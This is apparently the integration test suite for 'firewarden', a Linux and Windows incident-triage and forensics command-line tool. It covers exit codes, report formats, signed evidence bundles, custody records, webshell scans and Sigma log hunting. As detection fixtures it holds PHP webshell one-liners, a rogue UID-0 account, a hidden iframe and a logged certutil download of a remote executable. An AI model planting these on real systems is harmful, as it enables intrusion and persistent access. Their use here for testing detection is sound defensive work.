//! The binary as users and scripts meet it: exit codes, formats, files, help, live triage.

use std::path::Path;
use std::process::{Command, Output};

fn fw(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_firewarden"))
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .unwrap()
}

fn root_with(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (p, text) in files {
        let full = dir.path().join(p);
        std::fs::create_dir_all(full.parent().unwrap()).unwrap();
        std::fs::write(full, text).unwrap();
    }
    dir
}

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n";

#[test]
fn clean_root_exits_zero_and_findings_exit_one() {
    let clean = root_with(&[
        ("etc/passwd", PASSWD),
        (
            "var/log/auth.log",
            "Nov 20 10:00:00 web01 CRON[1]: pam_unix(cron:session): session opened for user root\n",
        ),
    ]);
    // One local console login: wtmp is there and clean.
    let mut record = vec![0u8; 384];
    record[0..4].copy_from_slice(&7i32.to_le_bytes());
    record[4..8].copy_from_slice(&812i32.to_le_bytes());
    record[8..12].copy_from_slice(b"tty1");
    record[44..49].copy_from_slice(b"alice");
    record[340..344].copy_from_slice(&1_795_650_000u32.to_le_bytes());
    std::fs::write(clean.path().join("var/log/wtmp"), record).unwrap();
    let out = fw(&["triage", "--root", clean.path().to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("No sign of compromise"));
    let bad = root_with(&[(
        "etc/passwd",
        &format!("{PASSWD}toor:x:0:0::/root:/bin/bash\n"),
    )]);
    let out = fw(&["triage", "--root", bad.path().to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("CRITICAL"));
}

/// `--quick` answers from the fast checks alone: the account planted is found, the webshell
/// (a file scan) is not looked for, and the skipped checks say why.
#[test]
fn quick_triage_stops_after_the_fast_checks() {
    let root = root_with(&[
        (
            "etc/passwd",
            &format!("{PASSWD}toor:x:0:0::/root:/bin/bash\n"),
        ),
        ("var/www/html/up.php", "<?php @eval($_POST['x']); ?>\n"),
    ]);
    let r = root.path().to_str().unwrap();
    let report = |extra: &[&str]| -> serde_json::Value {
        let out = fw(&[&["triage", "--root", r, "--format", "json"], extra].concat());
        assert_eq!(
            out.status.code(),
            Some(1),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let checks_of = |v: &serde_json::Value| -> Vec<String> {
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["check"].as_str().unwrap().to_owned())
            .collect()
    };
    let full = report(&[]);
    let quick = report(&["--quick"]);
    assert!(
        checks_of(&full).iter().any(|c| c.starts_with("linux.web.")),
        "{full}"
    );
    assert!(
        checks_of(&quick).iter().any(|c| c == "linux.accounts.uid0"),
        "{quick}"
    );
    assert!(
        !checks_of(&quick)
            .iter()
            .any(|c| c.starts_with("linux.web.") || c.starts_with("linux.files."))
    );
    let skipped: Vec<&serde_json::Value> = quick["checks"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["id"].as_str().unwrap().starts_with("linux.files."))
        .collect();
    assert!(!skipped.is_empty());
    for c in skipped {
        assert_eq!(c["status"], "skipped", "{c}");
        assert!(c["reason"].as_str().unwrap().contains("--quick"), "{c}");
    }
    // The checks stay in catalogue order whatever the phases.
    let ids = |v: &serde_json::Value| -> Vec<String> {
        v["checks"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["id"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(ids(&full), ids(&quick));
}

#[test]
fn errors_exit_two_with_a_message() {
    let out = fw(&["triage", "--root", "/nonexistent/firewarden-test"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot open root"));
    let out = fw(&["triage", "--only", "linux.nope"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no check matches"));
    let out = fw(&["triage", "--format", "yaml"]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn min_severity_sets_the_exit_threshold() {
    let root = root_with(&[
        ("etc/passwd", PASSWD),
        ("etc/ssh/sshd_config", "PermitRootLogin yes\n"),
    ]);
    let r = root.path().to_str().unwrap();
    assert_eq!(
        fw(&["triage", "--root", r, "--only", "linux.ssh.config"])
            .status
            .code(),
        Some(1)
    );
    assert_eq!(
        fw(&[
            "triage",
            "--root",
            r,
            "--only",
            "linux.ssh.config",
            "--min-severity",
            "high"
        ])
        .status
        .code(),
        Some(0)
    );
}

#[test]
fn json_jsonl_markdown_and_output_file() {
    let root = root_with(&[(
        "etc/passwd",
        &format!("{PASSWD}toor:x:0:0::/root:/bin/bash\n"),
    )]);
    let r = root.path().to_str().unwrap();
    let out = fw(&["triage", "--root", r, "--format", "json"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["schema_version"], 1);
    assert_eq!(v["findings"][0]["check"], "linux.accounts.uid0");
    let out = fw(&["triage", "--root", r, "--format", "jsonl"]);
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        serde_json::from_str::<serde_json::Value>(line).unwrap();
    }
    let file = root.path().join("../firewarden-out.md");
    let out = fw(&[
        "triage",
        "--root",
        r,
        "--format",
        "markdown",
        "-o",
        file.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1));
    assert!(out.stdout.is_empty());
    let md = std::fs::read_to_string(&file).unwrap();
    std::fs::remove_file(&file).unwrap();
    assert!(md.starts_with("# Firewarden triage"));
}

#[test]
fn checks_lists_the_catalogue() {
    let out = fw(&["checks", "--format", "json"]);
    assert_eq!(out.status.code(), Some(0));
    let v: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert!(v.len() >= 35);
    assert!(v.iter().any(|c| c["id"] == "linux.persistence.cron"));
    let text = String::from_utf8_lossy(&fw(&["checks"]).stdout).into_owned();
    assert!(text.contains("linux.persistence.cron"));
}

#[test]
fn every_subcommand_has_help_with_examples() {
    for cmd in [
        vec!["--help"],
        vec!["triage", "--help"],
        vec!["checks", "--help"],
        vec!["collect", "--help"],
        vec!["verify", "--help"],
        vec!["custody", "--help"],
        vec!["keygen", "--help"],
        vec!["scan", "--help"],
        vec!["baseline", "--help"],
        vec!["server", "--help"],
        vec!["tenant", "--help"],
        vec!["user", "--help"],
        vec!["case", "--help"],
    ] {
        let out = fw(&cmd);
        assert_eq!(out.status.code(), Some(0));
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("Examples:"),
            "{cmd:?}"
        );
    }
}

#[test]
fn auth_log_option_reads_a_loose_log() {
    let dir = root_with(&[("auth.log", &(0..15).map(|i| format!("Nov 20 10:00:{i:02} h sshd[1]: Failed password for root from 192.0.2.9 port 1 ssh2\n")).collect::<String>())]);
    let empty = tempfile::tempdir().unwrap();
    let out = fw(&[
        "triage",
        "--root",
        empty.path().to_str().unwrap(),
        "--only",
        "linux.logins",
        "--auth-log",
        dir.path().join("auth.log").to_str().unwrap(),
    ]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("brute force from 192.0.2.9; no successful login by a brute-forcing IP"),
        "{text}"
    );
}

/// Live: a process whose executable was deleted from a temp dir is found through /proc.
#[test]
fn live_triage_finds_a_running_deleted_binary() {
    if !Path::new("/proc/self/exe").exists() {
        eprintln!("skipping: no /proc");
        return;
    }
    let dir = tempfile::Builder::new()
        .prefix(".fw-live-test")
        .tempdir_in("/tmp")
        .unwrap();
    let copy = dir.path().join("sleeper");
    std::fs::copy("/bin/sleep", &copy).unwrap();
    // Another test thread may fork while the copy's write descriptor is open, which makes exec
    // fail with ETXTBSY for a moment: retry.
    let mut child = (0..50)
        .find_map(|_| match Command::new(&copy).arg("60").spawn() {
            Err(e) if e.raw_os_error() == Some(26) => {
                std::thread::sleep(std::time::Duration::from_millis(20));
                None
            }
            other => Some(other.unwrap()),
        })
        .expect("exec kept failing with ETXTBSY");
    std::fs::remove_file(&copy).unwrap();
    let out = fw(&[
        "triage",
        "--only",
        "linux.process.suspicious_exe",
        "--format",
        "json",
    ]);
    let _ = child.kill();
    let _ = child.wait();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let pid = child.id();
    let found = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["evidence"][0]["pid"] == pid && f["severity"] == "critical");
    assert!(
        found,
        "pid {pid} not reported: {}",
        serde_json::to_string_pretty(&v["findings"]).unwrap()
    );
}

/// docs/checks.md is the rendered catalogue; it must not drift from the code.
#[test]
fn docs_checks_md_matches_the_catalogue() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/checks.md");
    let out = fw(&["checks", "--format", "markdown"]);
    let header = "# Check catalogue\n\nGenerated by `firewarden checks --format markdown`; `cargo test -p firewarden` fails when it is stale\n(regenerate with `UPDATE_GOLDEN=1 cargo test -p firewarden --test cli`).\n\n";
    let expected = format!("{header}{}", String::from_utf8_lossy(&out.stdout));
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(&path, &expected).unwrap();
    }
    assert_eq!(
        std::fs::read_to_string(&path).unwrap(),
        expected,
        "docs/checks.md is stale"
    );
}

#[test]
fn output_inside_the_analysed_root_is_refused() {
    let root = root_with(&[("etc/passwd", PASSWD)]);
    let inside = root.path().join("etc/report.json");
    let out = fw(&[
        "triage",
        "--root",
        root.path().to_str().unwrap(),
        "--format",
        "json",
        "-o",
        inside.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("refusing to write"));
    assert!(!inside.exists());
}

#[test]
fn collect_verify_custody_and_triage_bundle_round_trip() {
    let root = root_with(&[
        (
            "etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n",
        ),
        ("etc/hostname", "db01\n"),
    ]);
    let work = tempfile::tempdir().unwrap();
    let w = |name: &str| work.path().join(name).to_str().unwrap().to_string();
    assert_eq!(fw(&["keygen", "-o", &w("resp")]).status.code(), Some(0));
    // Keys are never overwritten.
    assert_eq!(fw(&["keygen", "-o", &w("resp")]).status.code(), Some(2));
    let r = root.path().to_str().unwrap();
    let out = fw(&[
        "collect",
        "--root",
        r,
        "--key",
        &w("resp.key"),
        "--operator",
        "Op",
        "--case",
        "IR-9",
        "-o",
        &w("db01.fwb"),
    ]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("sha256 "));
    // Never overwrite evidence; never write inside the collected root.
    assert_eq!(
        fw(&["collect", "--root", r, "-o", &w("db01.fwb")])
            .status
            .code(),
        Some(2)
    );
    let inside = root.path().join("out.fwb");
    assert_eq!(
        fw(&["collect", "--root", r, "-o", inside.to_str().unwrap()])
            .status
            .code(),
        Some(2)
    );
    assert!(!inside.exists());

    let v = fw(&["verify", &w("db01.fwb"), "--key", &w("resp.pub")]);
    let text = String::from_utf8_lossy(&v.stdout);
    assert_eq!(v.status.code(), Some(0), "{text}");
    assert_eq!(text.lines().count(), 1, "{text}");
    assert!(
        text.starts_with("OK ") && text.contains("the expected key"),
        "{text}"
    );
    let j = fw(&["verify", &w("db01.fwb"), "--format", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&j.stdout).unwrap();
    assert_eq!(json["intact"], true);
    assert_eq!(json["case_id"], "IR-9");

    let c = fw(&[
        "custody",
        &w("db01.fwb"),
        "add",
        "--event",
        "transfer",
        "--by",
        "Op",
        "--to",
        "Lab",
        "--reason",
        "analysis",
        "--seal",
        "BAG-1",
        "--key",
        &w("resp.key"),
    ]);
    assert_eq!(
        c.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&c.stderr)
    );
    let show = fw(&["custody", &w("db01.fwb"), "show"]);
    let shown = String::from_utf8_lossy(&show.stdout);
    assert_eq!(show.status.code(), Some(0));
    assert!(
        shown.contains("acquire") && shown.contains("transfer") && shown.contains("BAG-1"),
        "{shown}"
    );

    let t = fw(&[
        "triage",
        "--bundle",
        &w("db01.fwb"),
        "--key",
        &w("resp.pub"),
        "--format",
        "json",
    ]);
    assert_eq!(t.status.code(), Some(1));
    let report: serde_json::Value = serde_json::from_slice(&t.stdout).unwrap();
    assert_eq!(report["source"]["kind"], "bundle");
    assert!(t.stdout.windows(4).any(|w| w == b"toor"));

    // One flipped byte: verify names the problem and exits 1; triage refuses the bundle.
    let mut raw = std::fs::read(w("db01.fwb")).unwrap();
    let mid = raw.len() / 2;
    raw[mid] ^= 1;
    std::fs::write(w("db01.fwb"), raw).unwrap();
    let v = fw(&["verify", &w("db01.fwb"), "--key", &w("resp.pub")]);
    assert_eq!(v.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&v.stdout).contains("FAIL"));
    assert_eq!(
        fw(&["triage", "--bundle", &w("db01.fwb")]).status.code(),
        Some(2)
    );
    // A wrong pinned key is a failure too.
    assert_eq!(fw(&["keygen", "-o", &w("other")]).status.code(), Some(0));
    let c = fw(&[
        "custody",
        &w("db01.fwb"),
        "add",
        "--event",
        "examine",
        "--by",
        "X",
        "--reason",
        "look",
    ]);
    assert_eq!(
        c.status.code(),
        Some(1),
        "a changed bundle is recorded as changed"
    );
}

#[test]
fn scan_reports_webshells_broken_rule_files_and_exit_codes() {
    let site = root_with(&[
        ("www/index.php", "<?php echo 'hello'; ?>\n"),
        ("www/up/x.php", "<?php @eval($_POST['z']); ?>\n"),
    ]);
    let rules = root_with(&[
        (
            "good.yar",
            "rule hello_page { strings: $a = \"hello\" condition: $a }",
        ),
        ("bad.yar", "rule broken { condition: nosuchmodule.x }"),
    ]);
    let www = site.path().join("www");
    let out = fw(&[
        "scan",
        www.to_str().unwrap(),
        "--rules",
        rules.path().to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let titles: Vec<&str> = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["title"].as_str().unwrap())
        .collect();
    assert!(
        titles
            .iter()
            .any(|t| t.contains("php_eval_request_oneliner") && t.ends_with("up/x.php")),
        "{titles:?}"
    );
    assert!(
        titles.iter().any(|t| t.contains("hello_page")),
        "{titles:?}"
    );
    let warnings = r["warnings"].to_string();
    assert!(
        warnings.contains("bad.yar") && warnings.contains("not loaded"),
        "{warnings}"
    );
    // Nothing at or above high in a clean tree: exit 0.
    let clean = fw(&[
        "scan",
        site.path().join("www/index.php").to_str().unwrap(),
        "--min-severity",
        "high",
    ]);
    assert_eq!(clean.status.code(), Some(0));
    // A mistyped path or rules directory is an error, not an empty scan.
    assert_eq!(fw(&["scan", "/nonexistent/x"]).status.code(), Some(2));
    assert_eq!(
        fw(&[
            "scan",
            www.to_str().unwrap(),
            "--rules",
            "/nonexistent/rules"
        ])
        .status
        .code(),
        Some(2)
    );
}

#[test]
fn baseline_create_and_diff_exit_codes() {
    let site = root_with(&[
        ("index.html", "<html>\nhello\n</html>\n"),
        ("a.css", "a{}\n"),
    ]);
    let out_dir = tempfile::tempdir().unwrap();
    let base = out_dir.path().join("site.baseline");
    let made = fw(&[
        "baseline",
        "create",
        site.path().to_str().unwrap(),
        "-o",
        base.to_str().unwrap(),
        "--copy",
    ]);
    assert_eq!(
        made.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&made.stderr)
    );
    assert_eq!(
        fw(&["baseline", "diff", base.to_str().unwrap()])
            .status
            .code(),
        Some(0)
    );
    std::fs::write(
        site.path().join("index.html"),
        "<html>\nhello\n<iframe src=\"http://x.example/\" width=0 height=0></iframe>\n</html>\n",
    )
    .unwrap();
    std::fs::write(site.path().join("shell.php"), "<?php system($_GET['c']);").unwrap();
    let diff = fw(&[
        "baseline",
        "diff",
        base.to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert_eq!(diff.status.code(), Some(1));
    let text = String::from_utf8_lossy(&diff.stdout);
    assert!(
        text.contains("web.baseline.added") && text.contains("shell.php"),
        "{text}"
    );
    assert!(
        text.contains("web.baseline.changed") && text.contains("iframe"),
        "{text}"
    );
    // A baseline written inside the site would change the evidence: refused.
    let inside = site.path().join("b.json");
    assert_eq!(
        fw(&[
            "baseline",
            "create",
            site.path().to_str().unwrap(),
            "-o",
            inside.to_str().unwrap()
        ])
        .status
        .code(),
        Some(2)
    );
}

/// A Sysmon process-creation event and a Security 1102, as JSON lines.
const HUNT_EVENTS: &str = concat!(
    r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"TimeCreated":{"#attributes":{"SystemTime":"2026-11-20T03:10:00.5Z"}},"EventRecordID":7,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"WEB01"},"EventData":{"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://203.0.113.7/a.exe a.exe, \"x\""}}}"##,
    "\n",
    r##"{"Event":{"System":{"EventID":1102,"TimeCreated":{"#attributes":{"SystemTime":"2026-11-20T03:30:00Z"}},"EventRecordID":8,"Channel":"Security","Computer":"WEB01"},"UserData":{"LogFileCleared":{"SubjectUserName":"admin"}}}}"##,
    "\n"
);

const HUNT_RULE: &str = r#"title: Certutil Download
id: 11111111-2222-3333-4444-555555555555
level: high
tags: [attack.command-and-control, attack.t1105]
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\certutil.exe'
    CommandLine|contains|windash: '-urlcache'
  condition: selection
"#;

#[test]
fn hunt_formats_exit_codes_and_rules() {
    let dir = root_with(&[
        ("logs/a.jsonl", HUNT_EVENTS),
        ("logs/clean.jsonl", ""),
        ("rules/certutil.yml", HUNT_RULE),
        (
            "rules/linux.yml",
            "title: L\nlogsource: {product: linux}\ndetection:\n  s: {a: 1}\n  condition: s\n",
        ),
    ]);
    let logs = dir.path().join("logs");
    let rules = dir.path().join("rules");
    let (logs, rules) = (logs.to_str().unwrap(), rules.to_str().unwrap());

    let table = fw(&["hunt", logs, "--sigma", rules]);
    assert_eq!(table.status.code(), Some(1));
    let text = String::from_utf8_lossy(&table.stdout);
    assert!(text.contains("FIREWARDEN HUNT"), "{text}");
    assert!(text.contains("Certutil Download"), "{text}");
    assert!(text.contains("Event log cleared"), "{text}");
    assert!(text.contains("1 of 2 rules not loaded"), "{text}");

    let csv = fw(&["hunt", logs, "--sigma", rules, "--format", "csv"]);
    let csv = String::from_utf8_lossy(&csv.stdout);
    let mut lines = csv.lines();
    assert!(
        lines
            .next()
            .unwrap()
            .starts_with("datetime,timestamp_desc,message,level")
    );
    let first = lines.next().unwrap();
    assert!(
        first.starts_with("2026-11-20T03:10:00.500000Z,Event Recorded,\"Certutil Download"),
        "{first}"
    );

    let jsonl = fw(&["hunt", logs, "--sigma", rules, "--format", "jsonl"]);
    let rows: Vec<serde_json::Value> = String::from_utf8_lossy(&jsonl.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(rows.len(), 2);
    for r in &rows {
        for key in ["datetime", "timestamp_desc", "message"] {
            assert!(r[key].is_string(), "{r}");
        }
    }
    assert_eq!(rows[0]["attack"][0], "T1105");
    assert_eq!(rows[0]["record_id"], 7);

    // Only critical: nothing here is, so the run is clean.
    let crit = fw(&["hunt", logs, "--sigma", rules, "--min-level", "critical"]);
    assert_eq!(crit.status.code(), Some(0));
    let none = fw(&[
        "hunt",
        dir.path().join("logs/clean.jsonl").to_str().unwrap(),
    ]);
    assert_eq!(none.status.code(), Some(0));

    let unsupported = fw(&["hunt", "--sigma", rules, "--unsupported"]);
    let text = String::from_utf8_lossy(&unsupported.stdout);
    assert!(text.contains("product: linux"), "{text}");
    assert_eq!(fw(&["hunt"]).status.code(), Some(2));
}

/// Temporary evidence (an extracted bundle holds /etc/shadow) is private and removed when the
/// run is interrupted: the bundle here is a FIFO nobody writes, so triage waits on it with its
/// extraction directory made, and is sent SIGTERM.
#[test]
fn an_interrupted_bundle_triage_removes_its_extraction() {
    use std::os::unix::fs::PermissionsExt;
    let work = tempfile::tempdir().unwrap();
    let tmp = work.path().join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    let fifo = work.path().join("stuck.fwb");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let mut child = Command::new(env!("CARGO_BIN_EXE_firewarden"))
        .args(["triage", "--bundle", fifo.to_str().unwrap()])
        .env("TMPDIR", &tmp)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let extraction = (0..200).find_map(|_| {
        std::thread::sleep(std::time::Duration::from_millis(50));
        std::fs::read_dir(&tmp)
            .unwrap()
            .flatten()
            .next()
            .map(|e| e.path())
    });
    let Some(extraction) = extraction else {
        let _ = child.kill();
        panic!("no extraction directory appeared");
    };
    let mode = std::fs::metadata(&extraction).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o700, "{mode:o}");
    // SAFETY: signalling the child this test started.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(128 + libc::SIGTERM));
    assert!(String::from_utf8_lossy(&out.stderr).contains("removed temporary evidence"));
    assert_eq!(
        std::fs::read_dir(&tmp).unwrap().count(),
        0,
        "extraction left behind"
    );
}

/// An empty or wrong directory holds no evidence: that is an error (exit 2), never "no sign of
/// compromise"; a source missing some evidence says which and gives no clean verdict.
#[test]
fn absent_evidence_is_never_a_clean_verdict() {
    let empty = tempfile::tempdir().unwrap();
    let out = fw(&["triage", "--root", empty.path().to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!text.contains("No sign of compromise"), "{text}");
    assert!(String::from_utf8_lossy(&out.stderr).contains("none of the evidence"));
    // /etc/passwd replaced by a FIFO, no logs: a partial gap, named, with no clean verdict.
    let odd = root_with(&[("etc/hostname", "web01\n")]);
    assert!(
        Command::new("mkfifo")
            .arg(odd.path().join("etc/passwd"))
            .status()
            .unwrap()
            .success()
    );
    let out = fw(&[
        "triage",
        "--root",
        odd.path().to_str().unwrap(),
        "--format",
        "json",
    ]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let gaps = report["storyline"]["evidence_gaps"].as_array().unwrap();
    assert!(
        gaps.iter().any(|g| g.as_str().unwrap().contains("FIFO")),
        "{gaps:?}"
    );
    assert!(
        report["storyline"]["verdict"]
            .as_str()
            .unwrap()
            .starts_with("No verdict")
    );
}
